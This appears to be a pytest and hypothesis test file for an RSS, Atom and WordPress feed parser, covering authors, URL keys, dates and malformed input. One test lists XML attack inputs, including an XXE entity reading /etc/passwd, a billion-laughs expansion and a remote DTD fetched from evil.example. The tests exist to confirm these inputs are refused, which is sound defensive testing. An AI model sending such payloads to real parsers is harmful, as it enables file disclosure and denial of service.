import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from transforms.parse.feed import author_name, parse_feed
from transforms.schema import RAW_ARTICLES

# RSS 2.0 as news sites publish it: HTML in <description>, dc:creator, categories, an item without a link
RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Wire</title>
<item><title>Mali &amp; Niger sign pact</title><link>https://example.com/a</link><guid>urn:a</guid>
<pubDate>Tue, 10 Jun 2003 04:00:00 GMT</pubDate><category>World</category><category>Africa</category>
<dc:creator>Jane Doe</dc:creator>
<description>&lt;p&gt;BAMAKO &lt;b&gt;(AFP)&lt;/b&gt; - The pact.&lt;/p&gt;
&lt;script&gt;track()&lt;/script&gt;&lt;p&gt;Turner #39;s view.&lt;/p&gt;</description>
</item>
<item><title>No link here</title><description>Plain text.</description></item>
</channel></rss>"""

# Atom 1.0: two authors, HTML content beside a summary, an offset date in <updated> only
ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title><id>urn:feed</id><updated>2019-11-04T10:00:00+01:00</updated>
<entry><title>Attack on base</title><link href="https://example.com/1"/><id>urn:1</id>
<updated>2019-11-04T10:00:00+01:00</updated>
<author><name>A One</name></author><author><name>B Two</name></author>
<summary>Short.</summary>
<content type="html">&lt;p&gt;Full body.&lt;/p&gt;&lt;p&gt;Second.&lt;/p&gt;</content></entry>
</feed>"""


# WordPress RSS as blogs and local papers publish it: CDATA everywhere, an entity inside a CDATA author, a
# figure with a caption in content:encoded, a section then tags as categories, a guid but no link
WORDPRESS = b"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>The Clare Echo &#8211; News</title><link>https://clare.example</link>
<item><title><![CDATA[O&#8217;Connor&#8217;s plan]]></title>
<dc:creator><![CDATA[Liam O&#8217;Connor]]></dc:creator>
<category><![CDATA[environment]]></category><category><![CDATA[science]]></category>
<guid isPermaLink="false">https://clare.example/?p=123</guid>
<description><![CDATA[Short summary&#8230;]]></description>
<content:encoded><![CDATA[<figure><img src="x.jpg"/><figcaption>Liam O&#8217;Connor. Photo: Agency</figcaption></figure>
<p>First para.</p><aside><a href="/r">Read more: other story</a></aside><p>Second para.</p>]]></content:encoded>
</item></channel></rss>"""


def parse(data: bytes, **kw) -> list[dict]:
    return parse_feed(data, source_uri="/in/feed.xml", source_name="wire", **kw)


def test_rss_items_become_records():
    first, second = parse(RSS)
    assert first == {
        "source_uri": "https://example.com/a",
        "source_name": "Wire",  # the channel's title
        "source_kind": "rss",
        "url": "https://example.com/a",
        "title": "Mali & Niger sign pact",
        "body": "BAMAKO (AFP) - The pact.\n\nTurner's view.",
        "category": "World",  # the first of its categories
        "published_raw": "Tue, 10 Jun 2003 04:00:00 GMT",
        "authors": "Jane Doe",
        "external_id": "urn:a",
        "payload": first["payload"],
        "read_error": None,
    }
    assert '"link": "https://example.com/a"' in first["payload"]
    assert (second["source_uri"], second["url"], second["body"]) == ("/in/feed.xml#2", None, "Plain text.")


def test_wordpress_item_is_decoded_captions_dropped_first_category_kept():
    (item,) = parse(WORDPRESS)
    assert (item["title"], item["authors"], item["category"]) == ("O’Connor’s plan", "Liam O’Connor", "environment")
    assert item["body"] == "First para.\n\nSecond para."
    assert item["source_name"] == "The Clare Echo – News"
    assert item["source_uri"] == "/in/feed.xml#id=https://clare.example/?p=123"  # a guid, no link
    assert item["url"] is None


def test_the_users_source_name_beats_the_channel_title():
    (item,) = parse(WORDPRESS, named=True)
    assert item["source_name"] == "wire"


def test_atom_entries_take_content_over_summary():
    (entry,) = parse(ATOM)
    assert entry["source_kind"] == "atom"
    assert entry["body"] == "Full body.\n\nSecond."
    assert entry["authors"] == "A One, B Two"
    assert entry["published_raw"] == "2019-11-04T10:00:00+01:00"


def test_truncated_download_gives_the_items_it_reached():
    data = b"<rss><channel><item><title>Whole</title></item><item><title>Cut"
    records = parse(data)
    assert records[0]["title"] == "Whole"
    assert all(r["read_error"] is None for r in records)


def test_lenient_parser_reads_a_feed_with_a_stray_ampersand():
    # Hand-written RSS: an unescaped `&`, so not well-formed XML
    (item,) = parse(b"<rss><channel><item><title>A & B</title><link>http://x.com/1</link></item></channel></rss>")
    assert (item["title"], item["read_error"]) == ("A & B", None)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "not a well-formed feed"),  # an empty file
        (b"\x00\x01\x02\xff", "not a well-formed feed"),  # binary bytes
        (b"<html><body><p>Hello</p></body></html>", "no RSS or Atom items"),  # a web page, not its feed
        (b"just some words", "not a well-formed feed"),  # not XML at all
        (b'<?xml version="1.0"?><rss version="2.0"><channel><title>x</title></channel></rss>', "empty feed"),
        (b"\xff\xfe<\x00r\x00", "not a well-formed feed"),  # undecodable: UTF-16 cut in half
    ],
)
def test_unreadable_feed_is_one_record_with_the_reason(data, reason):
    (record,) = parse(data)
    assert reason in record["read_error"]
    assert record["source_uri"] == "/in/feed.xml"
    assert record["payload"] is not None


@pytest.mark.parametrize(
    "data",
    [
        # XXE: an external entity reading a local file
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<rss><channel><item><title>&xxe;</title></item></channel></rss>",
        # Billion laughs: entities expanding exponentially
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]>'
        b"<rss><channel><item><title>&lol3;</title></item></channel></rss>",
        # A parameter entity fetching a remote DTD
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><rss/>',
        # An entity declaration after an error, where expat stops before reaching it
        b'<rss><channel><item><title>a & b</title></item></channel></rss><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    ],
)
def test_entities_are_never_resolved(data):
    (record,) = parse(data)
    assert record["read_error"].startswith("unsafe XML")
    assert "root:" not in record["payload"]


def test_external_dtd_is_not_loaded():
    # RSS 0.91's DOCTYPE names a DTD; here a local file, which must not be read
    data = (
        b'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "file:///etc/passwd">'
        b"<rss><channel><item><title>T</title><description>Body</description></item></channel></rss>"
    )
    (record,) = parse(data)
    assert (record["title"], record["body"]) == ("T", "Body")
    assert "root:" not in record["payload"]


def test_links_to_local_files_are_not_keys_or_urls():
    data = b"<rss><channel><item><title>T</title><link>file:///etc/passwd</link></item></channel></rss>"
    (record,) = parse(data)
    assert (record["source_uri"], record["url"]) == ("/in/feed.xml#1", None)


def test_deeply_nested_xml_does_not_crash():
    data = b"<rss><channel><item><title>T</title><description>" + b"<a>" * 10_000 + b"x" + b"</a>" * 10_000
    records = parse(data + b"</description></item></channel></rss>")
    assert len(records) == 1


def test_emoji_right_to_left_and_duplicate_guids():
    item = "<item><guid>same</guid><title>مرحبا 🎉</title><description>שלום</description></item>"
    records = parse(f"<rss><channel>{item}{item}</channel></rss>".encode())
    assert [(r["external_id"], r["title"], r["body"]) for r in records] == [("same", "مرحبا 🎉", "שלום")] * 2


def test_parsed_only_date_is_written_as_iso_utc():
    # A date feedparser normalises but keeps no string for: Atom's <published> missing, dc:date present
    data = (
        b'<rss xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><item><title>T</title>'
        b"<dc:date>2019-11-04T10:00:00+01:00</dc:date></item></channel></rss>"
    )
    (record,) = parse(data)
    assert record["published_raw"] in ("2019-11-04T10:00:00+01:00", "2019-11-04T09:00:00Z")


def test_a_50_mb_item_is_read():
    body = b"word " * 10_000_000
    (record,) = parse(
        b"<rss><channel><item><title>T</title><description>" + body + b"</description></item></channel></rss>"
    )
    assert len(record["body"]) == len(body.strip())


def test_50_mb_of_non_xml_is_refused_quickly():
    (record,) = parse(b"a" * 50_000_000)
    assert "not a well-formed feed" in record["read_error"]


@settings(deadline=None, max_examples=60)
@given(st.binary(max_size=300) | st.text(alphabet="<>/&;!rssfeditm?xl ", max_size=200).map(str.encode))
def test_any_bytes_give_items_or_exactly_one_error(data):
    records = parse(data)
    assert len(records) >= 1
    errors = [r for r in records if r["read_error"] is not None]
    assert errors == [] or len(records) == 1
    for record in records:
        assert set(record) == set(RAW_ARTICLES)
        assert record["source_kind"] in ("rss", "atom")


def rss_item(inner: str) -> bytes:
    return (
        f'<rss version="2.0"><channel><title>Post</title><item><title>T</title>{inner}</item></channel></rss>'.encode()
    )


@pytest.mark.parametrize(
    ("inner", "authors"),
    [
        # RSS 2.0 as the spec writes it: an address, then the name; the domain is longer than feedparser's
        # four-letter pattern, which alone gives `ple (Dafydd Jones`
        ("<author>news@boroughpost.example (Dafydd Jones)</author>", "Dafydd Jones"),
        ("<author>dj@bp.com (Dafydd Jones)</author>", "Dafydd Jones"),  # a short domain
        ("<author>Dafydd Jones &lt;dj@boroughpost.example&gt;</author>", "Dafydd Jones"),  # mail-header form
        ("<author>Dafydd Jones (dj@boroughpost.example)</author>", "Dafydd Jones"),
        ("<author>news@boroughpost.example</author>", None),  # a desk's address names nobody
        ("<author>Dafydd Jones</author>", "Dafydd Jones"),  # a name, as most feeds write it
        # Two addresses, which RSS does not allow but some CMSs write
        (
            "<author>a@boroughpost.example (Ann Lee)</author><author>b@boroughpost.example (Bo Ng)</author>",
            "Ann Lee, Bo Ng",
        ),
        # dc:creator, twice (WordPress with a co-author plugin)
        (
            '<dc:creator xmlns:dc="http://purl.org/dc/elements/1.1/">Ann Lee</dc:creator>'
            '<dc:creator xmlns:dc="http://purl.org/dc/elements/1.1/">Bo Ng</dc:creator>',
            "Ann Lee, Bo Ng",
        ),
    ],
)
def test_rss_authors_are_names_not_addresses(inner, authors):
    (item,) = parse(rss_item(inner))
    assert item["authors"] == authors


def test_atom_author_with_an_email_gives_the_name():
    # Atom's structured author: <name> and <email>
    data = ATOM.replace(b"<author><name>B Two</name></author>", b"").replace(
        b"<name>A One</name>", b"<name>A One</name><email>a.one@boroughpost.example</email>"
    )
    (entry,) = parse(data)
    assert entry["authors"] == "A One"


names = st.lists(
    st.text(alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'-", min_size=1, max_size=12),
    min_size=1,
    max_size=4,
).map(" ".join)
addresses = st.from_regex(r"[a-z][a-z0-9.]{0,10}@[a-z]{1,10}(\.[a-z]{2,12}){1,3}", fullmatch=True)


@given(names, addresses, st.sampled_from(["{email} ({name})", "{name} <{email}>", "{name} ({email})", "{name}"]))
def test_author_name_takes_the_name_from_any_form(name, email, form):
    # The forms RSS `<author>` is written in, with any name and address
    assert author_name(form.format(name=name, email=email)) == name
    assert author_name(email) is None
    assert author_name("") is None


@pytest.mark.parametrize(
    ("inner", "key"),
    [
        # A feed that tags its links for analytics, with a permalink guid: the page, without the tags
        (
            "<link>https://example.org/cafe-award?utm_source=rss&amp;utm_medium=feed</link>"
            "<guid>https://example.org/cafe-award</guid>",
            "https://example.org/cafe-award",
        ),
        # The same item after the feed changed its tags: the same key
        (
            "<link>https://example.org/cafe-award?utm_source=rss2&amp;utm_campaign=june</link>"
            '<guid isPermaLink="true">https://example.org/cafe-award</guid>',
            "https://example.org/cafe-award",
        ),
        # A permalink guid and no link: feedparser takes the guid for the link
        ("<guid>https://example.org/cafe-award?utm_source=rss#comments</guid>", "https://example.org/cafe-award"),
        # A site that identifies its articles by a query parameter keeps it (WordPress `?p=`)
        ("<link>https://example.org/?p=123&amp;fbclid=x</link>", "https://example.org/?p=123"),
    ],
)
def test_tracking_parameters_and_fragments_are_no_part_of_the_key(inner, key):
    (item,) = parse(rss_item(inner))
    assert (item["source_uri"], item["url"]) == (key, key)


def test_a_fragment_that_tells_items_apart_is_kept():
    # A live blog's feed: each post is the same page with its own fragment
    items = "".join(
        f"<item><title>Update {n}</title><link>https://example.org/live?utm_source=rss#post-{n}</link></item>"
        for n in (1, 2)
    )
    records = parse(f"<rss><channel>{items}</channel></rss>".encode())
    assert [r["source_uri"] for r in records] == ["https://example.org/live#post-1", "https://example.org/live#post-2"]
